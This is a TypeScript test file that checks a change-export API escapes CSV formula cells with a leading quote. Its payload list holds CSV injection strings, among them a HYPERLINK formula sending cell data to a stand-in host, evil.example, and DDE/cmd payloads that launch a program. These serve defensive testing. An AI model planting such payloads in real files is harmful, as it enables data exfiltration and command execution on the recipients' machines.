/**
 * CSV injection (issue 12, point 7): the change export (GET /api/changes/export) never hands a
 * spreadsheet a cell it would run as a formula. Payloads stored in every exported text field
 * (competitor name, description, page URL, old and new content) come out prefixed with a quote.
 */
import { describe, it, expect, beforeAll } from "vitest";
import { GET as exportRoute } from "@/app/api/changes/export/route";
import { getDb } from "@/db/client";
import { competitors, changes } from "@/db/schema";
import { call, makeUser } from "../helpers/http";
import { seedFeed } from "../helpers/feed-seed";

/** Formula triggers a spreadsheet runs (=, +, -, @, and tab or carriage return before them). */
const PAYLOADS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"];

/** RFC 4180 reader (quoted cells with "" escapes and embedded line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === "\"" && text[i + 1] === "\"") {
      cell += "\"";
      i++;
    } else if (ch === "\"") quoted = !quoted;
    else if (quoted) cell += ch;
    else if (ch === ",") endCell();
    else if (ch === "\r" && text[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  return rows;
}

const url = (q: string) => `http://localhost/api/changes${q}`;

type Seeded = Awaited<ReturnType<typeof makeUser>>;


describe("CSV export", () => {
  let s: Seeded;
  beforeAll(async () => {
    s = await seedFeed();
  });

  it("exports the filtered list as CSV, neutralising formula cells", async () => {
    const pricing = await exportRoute(new Request(url(`/export?type=pricing`), { headers: { authorization: `Bearer ${s.token}` } }));
    expect((await pricing.text()).trim().split("\r\n")).toHaveLength(1 + 9);
    const res = await exportRoute(new Request(url(`/export?search=hyperlink`), { headers: { authorization: `Bearer ${s.token}` } }));
    expect(res.headers.get("content-type")).toMatch(/text\/csv/);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="rivalscope-changes-/);
    const lines = (await res.text()).trim().split("\r\n");
    expect(lines[0]).toBe("Detected at,Competitor,Type,Importance,Description,Page,Read,Old content,New content");
    expect(lines).toHaveLength(2);
    expect(lines.some((l) => l.includes(`"'=HYPERLINK(""x"") Team plan: $12 → $15 per user/month"`))).toBe(true);
  });

  it("quotes every formula payload in every exported text field", async () => {
    const u = await makeUser();
    const db = getDb();
    for (const [i, p] of PAYLOADS.entries()) {
      const [c] = await db.insert(competitors).values({ userId: u.user.id, name: p, url: `https://c${i}.example`, domain: `c${i}.example`, status: "active" }).returning();
      await db.insert(changes).values({ userId: u.user.id, competitorId: c.id, type: "content", importance: "low", description: p, url: p, oldContent: p, newContent: p, detectedAt: new Date(Date.now() - i * 1000) });
    }
    const res = await call(exportRoute, url("/export"), { token: u.token });
    expect(res.status).toBe(200);
    const rows = parseCsv(res.body as string);
    expect(rows).toHaveLength(1 + PAYLOADS.length);
    const byPayload = new Map(PAYLOADS.map((p) => [p, 0]));
    for (const row of rows.slice(1)) {
      for (const col of [1, 4, 5, 7, 8]) {
        const value = row[col];
        expect(value, `column ${rows[0][col]}`).toMatch(/^'/);
        expect(PAYLOADS).toContain(value.slice(1));
        byPayload.set(value.slice(1), (byPayload.get(value.slice(1)) ?? 0) + 1);
      }
      // No cell of the file starts with a formula trigger.
      for (const value of row) expect(value, row.join(" | ")).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect([...byPayload.values()]).toEqual(PAYLOADS.map(() => 5));
  });
});
